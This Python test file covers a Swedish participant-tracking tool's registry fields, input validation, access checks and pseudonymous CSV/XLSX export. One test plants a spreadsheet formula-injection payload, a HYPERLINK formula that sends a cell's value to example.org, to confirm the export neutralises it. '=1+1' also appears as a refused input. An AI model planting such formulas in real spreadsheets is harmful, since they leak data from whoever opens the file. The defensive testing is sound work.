"""Fields for national reporting (SUS, ESF): a programme declares them (checked with file and
line), the coach records them through Access (a wrong value is refused and nothing is
written), and `stegvis export registry` writes exactly the declared fields for a period,
pseudonymous, formula-safe, for administrators only."""

import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from foundation.errors import AccessDenied, StegvisError
from stegvis.access import Access
from stegvis.accounts import get_user
from stegvis.cli import run
from stegvis.exports import pseudonym
from surveys.definitions import load_file
from surveys.models import REGISTRY_COLUMNS

PROGRAMME = """\
id: egen_insats
version: 1
name: Egen insats
occasions:
  - {id: start, label: Start, anchor: start}
outcomes:
  - {id: arbete, label: Arbete}
  - {id: annat, label: Annat}
registry_fields:
  - id: forsorjning
    label: Försörjning vid start
    when: start
    kind: choice
    choices: [{id: lon, label: Lön}, {id: okand, label: Okänd}]
  - id: manader
    label: Månader utan arbete
    when: start
    kind: number
    min: 0
    max: 600
"""


def write(tmp_path, text: str):
    path = tmp_path / "egen_insats.yaml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("change, line, problem", [
    (("    choices: [{id: lon, label: Lön}, {id: okand, label: Okänd}]", "    choices: [{id: lon, label: Lön}]"),
     14, "declare at least two choices"),
    (("    max: 600\n", ""), 15, "is a number: give it min and max"),
    (("    kind: number", "    kind: text"), 18, "registry_fields.1.kind"),
    (("  - id: manader", "  - id: forsorjning"), 15, "duplicate registry field id forsorjning"),
    (("  - id: manader", "  - id: gender"), 15, "the export has a column of that name already"),
    (("    when: start\n    kind: number", "    when: sometimes\n    kind: number"), 17, "registry_fields.1.when"),
])
def test_a_wrong_declaration_names_file_and_line(tmp_path, change, line, problem):
    assert load_file(write(tmp_path, PROGRAMME)).registry_fields[1].max == 600
    path = write(tmp_path, PROGRAMME.replace(*change))
    with pytest.raises(StegvisError) as caught:
        load_file(path)
    assert f"egen_insats.yaml:{line}: " in str(caught.value) and problem in str(caught.value), str(caught.value)


def test_the_shipped_programmes_that_report_declare_their_fields(catalog):
    """Jobbvägen AR reports to SUS (seed 000), Porten to the ESF (seed 002): income at start and
    exit, education level, time without work; every choice field has an explicit unknown."""
    for programme_id in ("jobbvagen_ar", "porten"):
        programme = catalog.programme(programme_id)
        assert {f.when for f in programme.registry_fields} == {"start", "exit"}
        for field in programme.registry_fields:
            assert field.kind == "number" or "okand" in {c.id for c in field.choices}


@pytest.fixture
def anna(demo_db, catalog):
    return demo_db, catalog, Access(demo_db, get_user(demo_db, "anna"), catalog)


GOOD_START = {"forsorjning_start": "forsorjningsstod", "utbildningsniva": "okand", "tid_utan_arbete": "ar_1_2"}


def registered(db, code):
    return db.execute("SELECT count(*) FROM participants WHERE code = ?", [code]).fetchone()[0]


@pytest.mark.parametrize("change, named", [
    ({"hittepa": "x"}, ["hittepa"]),                                            # a field not declared
    ({"utbildningsniva": "doktor"}, ["Utbildningsnivå", "doktor"]),               # a choice not declared
    ({"forsorjning_avslut": "lon"}, ["forsorjning_avslut"]),                     # an exit field at the start
    ({"utbildningsniva": None}, ["Utbildningsnivå"]),                             # a required one left empty
    ({"forsorjning_start": "=1+1"}, ["Huvudsaklig försörjning vid start", "'=1+1'"]),
])
def test_a_wrong_value_at_registration_is_refused_and_nothing_is_written(anna, change, named):
    db, _, access = anna
    rows = db.execute("SELECT count(*) FROM registry_values").fetchone()[0]
    with pytest.raises(StegvisError) as caught:
        access.register_participant("JV-FEL-1", "kvinna", 1990, "jobbvagen_ar", "2026-11-02", "v1", "enkäter",
                                    background={**GOOD_START, **change})
    assert all(part in caught.value.say("sv") for part in named), caught.value.say("sv")
    assert all(part.strip("'") in caught.value.say("en") for part in named[-1:])
    assert registered(db, "JV-FEL-1") == 0
    assert db.execute("SELECT count(*) FROM registry_values").fetchone()[0] == rows


def test_numbers_are_checked_against_min_and_max_and_nothing_half_written(anna):
    db, catalog, _ = anna
    cecilia = Access(db, get_user(db, "cecilia"), catalog)
    start = {"forsorjning_start": "lon", "utbildningsniva": "gymnasial"}
    for wrong, why in ((601, "utanför 0–600"), (-1, "utanför 0–600"), (2.5, "inget heltal"), ("tolv", "inget heltal"),
                       (True, "inget heltal")):
        with pytest.raises(StegvisError, match=why):
            cecilia.register_participant("PO-NY-1", "man", 1988, "porten", "2026-11-02", "v1", "enkäter",
                                         background={**start, "manader_utan_arbete": wrong})
        assert registered(db, "PO-NY-1") == 0
    pid = cecilia.register_participant("PO-NY-1", "man", 1988, "porten", "2026-11-02", "v1", "enkäter",
                                       background={**start, "manader_utan_arbete": None})  # not required
    assert dict(db.execute("SELECT field, coalesce(value_text, value_num) FROM registry_values WHERE participant_id = ?",
                           [pid]).fetchall()) == start
    before = db.execute("SELECT field, value_text, value_num FROM registry_values WHERE participant_id = ?",
                        [pid]).fetchall()
    with pytest.raises(StegvisError, match="Månader utan arbete före start"):
        cecilia.record_background(pid, "porten", {"utbildningsniva": "eftergymnasial", "manader_utan_arbete": 999})
    assert db.execute("SELECT field, value_text, value_num FROM registry_values WHERE participant_id = ?",
                      [pid]).fetchall() == before, "the good value of a refused batch is not written either"
    cecilia.record_background(pid, "porten", {"utbildningsniva": "eftergymnasial", "manader_utan_arbete": "14"})
    enrolment = db.execute("SELECT id FROM enrolments WHERE participant_id = ?", [pid]).fetchone()[0]
    with pytest.raises(StegvisError, match="välj ett svar"):
        cecilia.record_exit(enrolment, "2026-11-20", "studier", background={})
    assert db.execute("SELECT exited_on FROM enrolments WHERE id = ?", [enrolment]).fetchone()[0] is None
    cecilia.record_exit(enrolment, "2026-11-20", "studier", background={"forsorjning_avslut": "studiemedel"})
    assert dict(db.execute("SELECT field, coalesce(value_text, value_num) FROM registry_values WHERE participant_id = ?",
                           [pid]).fetchall()) == {"forsorjning_start": "lon", "utbildningsniva": "eftergymnasial",
                                                  "manader_utan_arbete": 14, "forsorjning_avslut": "studiemedel"}
    extract = Access(db, get_user(db, "admin"), catalog).export_participant(pid)
    assert {"field": "utbildningsniva", "value": "eftergymnasial", "label": "Utbildningsnivå",
            "answer": "Eftergymnasial"}.items() <= extract["registry_fields"][1].items()
    assert Access(db, get_user(db, "admin"), catalog).erase_participant(pid, "request").counts["registry_values"] == 4
    assert db.execute("SELECT count(*) FROM registry_values WHERE participant_id = ?", [pid]).fetchone()[0] == 0


def test_another_coachs_participant_is_refused(anna):
    db, _, access = anna
    theirs = db.execute("SELECT id FROM participants WHERE coach_id = ?", [get_user(db, "bengt").id]).fetchone()[0]
    before = db.execute("SELECT * FROM registry_values ORDER BY rowid").fetchall()
    with pytest.raises(AccessDenied):
        access.record_background(theirs, "jobbvagen_ar", {"utbildningsniva": "gymnasial"})
    with pytest.raises(AccessDenied):
        access.registry_export("jobbvagen_ar", "2025-01-01", "2025-12-31")
    assert db.execute("SELECT * FROM registry_values ORDER BY rowid").fetchall() == before
    assert db.execute("SELECT count(*) FROM audit_log WHERE action = 'access_denied' AND participant_id = ?",
                      [theirs]).fetchone()[0] >= 1


def enrolled_in(db, programme_id, start, end):
    return {r[0] for r in db.execute(
        "SELECT participant_id FROM enrolments WHERE programme_id = ? AND started_on <= ? "
        "AND (exited_on IS NULL OR exited_on >= ?)", [programme_id, end, start])}


def test_the_export_writes_the_declared_fields_for_the_period_without_codes(demo_path, demo_db, catalog, tmp_path):
    db = demo_db
    programme = catalog.programme("porten")
    out = tmp_path / "esf-2025.csv"
    assert run(["export", "registry", "--programme", "porten", "--from", "2025-01-01", "--to", "2025-12-31",
                "--output", str(out), "--db", str(demo_path)]) == 0
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert list(frame.columns) == [*REGISTRY_COLUMNS, *(f.id for f in programme.registry_fields)]
    people = enrolled_in(db, "porten", "2025-01-01", "2025-12-31")
    assert sorted(frame["respondent"]) == sorted(pseudonym(db, p) for p in people)
    text = out.read_text(encoding="utf-8")
    codes = [r[0] for r in db.execute("SELECT code FROM participants")]
    assert not any(code in text for code in codes), "no participant code in the export"
    assert set(frame["programme_id"]) == {"porten"}
    # the values are what was recorded, by pseudonym
    for pid in list(people)[:10]:
        row = frame[frame["respondent"] == pseudonym(db, pid)].iloc[0]
        stored = dict(db.execute("SELECT field, coalesce(value_text, CAST(value_num AS INTEGER)) FROM registry_values "
                                 "WHERE participant_id = ?", [pid]).fetchall())
        exited_in_period = row["exited_on"] != ""
        for field in programme.registry_fields:
            expected = "" if field.when == "exit" and not exited_in_period else str(stored.get(field.id, ""))
            assert row[field.id] == expected, (pid, field.id)
    # an exit after the period is not the period's: the person was still in at its end
    later = db.execute("SELECT participant_id FROM enrolments WHERE programme_id = 'porten' AND started_on <= "
                       "'2025-06-30' AND exited_on > '2025-06-30'").fetchone()[0]
    half = Access(db, get_user(db, "admin"), catalog).registry_export("porten", "2025-01-01", "2025-06-30")
    row = half[half["respondent"] == pseudonym(db, later)].iloc[0]
    assert pd.isna(row["exited_on"]) and pd.isna(row["outcome"]) and pd.isna(row["forsorjning_avslut"])
    # pseudonyms are stable: the same person has the same one in another period and in the answers export
    assert pseudonym(db, later) in set(frame["respondent"])
    from stegvis.exports import answers as answers_export

    assert pseudonym(db, later) in set(answers_export(db, "porten")["respondent"])
    logged = db.execute("SELECT username, detail FROM audit_log WHERE action = 'export' ORDER BY id").fetchall()
    assert logged[-1][0] == "admin" and logged[-1][1].startswith("registry porten 2025-01-01 2025-06-30")
    assert any(u == "cli" and d.startswith("registry porten 2025-01-01 2025-12-31") for u, d in logged)


def test_the_export_is_listed_among_the_copies_an_erasure_leaves(demo_db, catalog):
    db = demo_db
    admin = Access(db, get_user(db, "admin"), catalog)
    admin.registry_export("porten", "2025-01-01", "2025-12-31")
    someone = sorted(enrolled_in(db, "porten", "2025-01-01", "2025-12-31"))[0]
    assert any(c["kind"] == "export" and c["detail"].startswith("registry porten")
               for c in admin.erase_participant(someone, "request").copies)


def test_a_period_that_ends_before_it_starts_is_refused(demo_db, catalog):
    admin = Access(demo_db, get_user(demo_db, "admin"), catalog)
    with pytest.raises(StegvisError, match="efter sitt slut"):
        admin.registry_export("porten", "2025-12-31", "2025-01-01")
    with pytest.raises(StegvisError, match="inte ett datum"):
        admin.registry_export("porten", "2025-13-01", "2025-12-31")


def test_a_hostile_string_is_formula_safe_in_the_csv_and_the_workbook(tmp_path, demo_path, demo_db):
    """A value that never passed the checks (written by another tool, or under a definition
    since changed) and a förbund's own label are written as text, never as a formula."""
    db = demo_db
    pid = sorted(enrolled_in(db, "porten", "2025-01-01", "2025-12-31"))[0]
    hostile = '=HYPERLINK("http://example.org/?"&A1,"klicka")'
    db.execute("UPDATE registry_values SET value_text = ? WHERE participant_id = ? AND field = 'forsorjning_start'",
               [hostile, pid])
    db.conn.commit()
    out_csv, out_xlsx = tmp_path / "r.csv", tmp_path / "r.xlsx"
    for out in (out_csv, out_xlsx):
        assert run(["export", "registry", "--programme", "porten", "--from", "2025-01-01", "--to", "2025-12-31",
                    "--output", str(out), "--db", str(demo_path)]) == 0
    frame = pd.read_csv(out_csv, dtype=str, keep_default_na=False)
    assert "'" + hostile in set(frame["forsorjning_start"]) and hostile not in set(frame["forsorjning_start"])
    book = load_workbook(io.BytesIO(out_xlsx.read_bytes()))
    cells = [c for row in book["Deltagare"].iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.value.startswith("'") and c.data_type == "s" for c in cells)
    codebook = pd.DataFrame(book["Kodlista"].values)
    assert {"forsorjning_start", "okand", "Okänd"} <= set(codebook.stack())


def test_output_must_be_csv_or_xlsx_and_stdout_is_csv(demo_path, tmp_path, capsys):
    assert run(["export", "registry", "--programme", "porten", "--from", "2025-01-01", "--to", "2025-03-31",
                "--output", str(tmp_path / "r.json"), "--db", str(demo_path)]) == 1
    assert not (tmp_path / "r.json").exists()
    capsys.readouterr()
    assert run(["export", "registry", "--programme", "porten", "--from", "2025-01-01", "--to", "2025-03-31",
                "--db", str(demo_path)]) == 0
    assert capsys.readouterr().out.startswith(",".join(REGISTRY_COLUMNS))
